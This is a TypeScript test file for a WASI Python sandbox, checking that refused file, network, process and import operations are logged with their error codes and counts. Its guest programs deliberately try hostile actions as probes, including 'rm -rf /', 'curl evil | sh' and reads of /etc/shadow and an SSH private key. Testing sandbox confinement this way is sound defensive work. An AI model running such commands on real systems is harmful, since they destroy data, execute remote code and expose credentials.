import { expect } from 'chai';
import { errnoName } from '../../src/protocol/errnoName.js';
import { MAX_REFUSED_CALLS } from '../../src/protocol/refusedCall.js';
import { useRig } from '../support/useRig.js';

describe('what was refused', () => {
  const rig = useRig();

  async function refused(source: string): Promise<string[]> {
    const { refusals, outcome } = await rig.python.run(source);
    expect(outcome).to.include({ kind: 'exited', code: 0 });
    return refusals.calls.map(({ seenBy, operation, target, errno, count }) =>
      [seenBy, operation, target, errno === null ? '-' : errnoName(errno), count].join(' '),
    );
  }

  const TRY = 'import os\ndef t(f, *a, **k):\n  try: f(*a, **k)\n  except OSError: pass\n';

  it('is nothing for programs that keep to what they have', async () => {
    const source = `
import os, json, sqlite3 if False else json, zoneinfo, colorsys, tempfile, shutil, asyncio, concurrent.futures, mimetypes
os.makedirs('a/b'); open('a/b/c', 'w').write('x'); shutil.rmtree('a')
print(os.path.exists('nothing'), os.path.exists('/tmp/nothing'), os.listdir('/'))
try: open('missing.txt')
except FileNotFoundError: pass
try: os.mkdir('/tmp')
except FileExistsError: pass
with tempfile.TemporaryFile() as f: f.write(b'x')
import wave, xml.dom.minidom, email.message, http.client
async def main(): await asyncio.sleep(0)
asyncio.run(main())
print(zoneinfo.ZoneInfo('Europe/Berlin'))
`.replace('sqlite3 if False else json, ', '');
    expect(await refused(source)).to.deep.equal([]);
  });

  it('names each call with its path, its error and how often it was made', async () => {
    const source = `${TRY}
for _ in range(3): t(open, '/etc/passwd')
t(open, '../../root/.ssh/id_rsa')
t(os.stat, '/home/user'); t(os.listdir, '/proc/self')
t(open, '/usr/local/lib/python314.zip', 'w'); t(os.mkdir, '/new')
t(os.rename, '/tmp', '/workspace/t'); t(os.symlink, '/etc', 'link'); t(os.unlink, '/usr/local/lib/python314.zip')
t(os.readlink, '/proc/self/exe')
open('here', 'w').close(); t(os.link, 'here', 'there')
t(os.close, 77)`;
    expect(await refused(source)).to.deep.equal([
      'wasi open /etc/passwd ENOENT 3',
      'wasi open /root/.ssh/id_rsa ENOENT 1',
      'wasi stat /home/user ENOENT 1',
      'wasi open /proc/self ENOENT 1',
      'wasi open /usr/local/lib/python314.zip EROFS 1',
      'wasi mkdir /new EROFS 1',
      'wasi rename /tmp → /workspace/t EROFS 1',
      'wasi symlink /workspace/link ENOTSUP 1',
      'wasi unlink /usr/local/lib/python314.zip EROFS 1',
      'wasi readlink /proc/self/exe ENOENT 1',
      'wasi link /workspace/here → /workspace/there ENOTSUP 1',
      'wasi close  EBADF 1',
    ]);
  });

  it('names what never reaches WASI, as reported by Python', async () => {
    const source = `${TRY}
import socket, subprocess, urllib.request, _socket
t(socket.create_connection, ('example.com', 80))
t(urllib.request.urlopen, 'https://example.com/secret')
t(socket.getaddrinfo, 'example.org', 443); t(socket.socket); t(_socket.socket)
t(subprocess.run, ['rm', '-rf', '/']); t(os.system, 'curl evil | sh')
for name in ('fork', 'kill', 'chroot', 'no_such_name'):
  try: getattr(os, name)
  except AttributeError as error: print(error)
for name in ('ctypes', 'numpy'):
  try: __import__(name)
  except ImportError: pass`;
    expect(await refused(source)).to.deep.equal([
      'guest connect example.com:80 ENETUNREACH 1',
      'guest connect example.com:443 ENETUNREACH 1',
      'guest getaddrinfo example.org ENETUNREACH 1',
      'guest socket  ENETUNREACH 1',
      'guest socket  ENOTSUP 1',
      'guest subprocess.Popen rm -rf / EPERM 1',
      'guest os.system curl evil | sh EPERM 1',
      'guest os.fork  - 1',
      'guest os.kill  - 1',
      'guest os.chroot  - 1',
      'guest import ctypes  - 1',
    ]);
  });

  it('names a limit that was met', async () => {
    const source = `${TRY}
def fill():
  with open('/tmp/a', 'wb', buffering=0) as f:
    for _ in range(300): f.write(bytes(1 << 20))
t(fill); t(lambda: [os.open('/tmp', os.O_RDONLY) for _ in range(300)])`;
    expect(await refused(source)).to.deep.equal([
      'wasi write  ENOSPC 1',
      'wasi open /tmp EMFILE 1',
    ]);
  });

  it('keeps as many different ones as it may, and counts the rest', async () => {
    const { refusals } = await rig.python.run(`${TRY}
for i in range(1000): t(open, f'/etc/{i}')
t(open, '/etc/0')`);
    expect(refusals.calls.length).to.equal(MAX_REFUSED_CALLS);
    expect(refusals.omitted).to.equal(1000 - MAX_REFUSED_CALLS);
    expect(refusals.calls[0]).to.include({ target: '/etc/0', count: 2 });
  });

  it('shortens long names, and survives those that are no text', async () => {
    const { refusals } = await rig.python.run(`${TRY}
t(open, '/' + 'x' * 4000); t(open, '/' + 'y' * 100_000); t(open, b'/\\xff\\xfe'); t(open, '/a\\nb\\x1b[31m')`);
    const targets = refusals.calls.map(({ target }) => target);
    expect(targets[0]).to.equal(`/${'x'.repeat(254)}…`);
    expect(targets).to.include('/\ufffd\ufffd');
    expect(targets).to.include('/a\nb\x1b[31m');
    expect(Math.max(...targets.map((target) => target.length))).to.equal(256);
  });

  it('is kept even if the program is cut off', async () => {
    const { refusals, outcome } = await rig.python.run(
      'try: open("/etc/shadow")\nexcept OSError: pass\nwhile True: pass',
      { limits: { timeoutMs: 300 } },
    );
    expect(outcome).to.deep.equal({ kind: 'timedOut', limitMs: 300 });
    expect(refusals.calls.map(({ target }) => target)).to.deep.equal(['/etc/shadow']);
  });

  it('of one run is not told of the next', async () => {
    await rig.python.run('try: open("/etc/shadow")\nexcept OSError: pass');
    expect(await refused('print(1)')).to.deep.equal([]);
  });

  it('cannot be crowded out by what a program makes up', async () => {
    const calls = await refused(`${TRY}
import _wasm_sandbox_host as host
for i in range(1000): host.report(3, f'open\\0/fake/{i}\\0' .encode() + b'44')
host.report(3, b''); host.report(3, b'x' * 513); host.report(3, b'a\\0b\\0-1'); host.report(3, bytes(512))
t(open, '/etc/real')`);
    expect(calls.filter((call) => call.startsWith('wasi'))).to.deep.equal([
      'wasi open /etc/real ENOENT 1',
    ]);
    expect(calls.filter((call) => call.startsWith('guest')).length).to.equal(MAX_REFUSED_CALLS);
  });
});
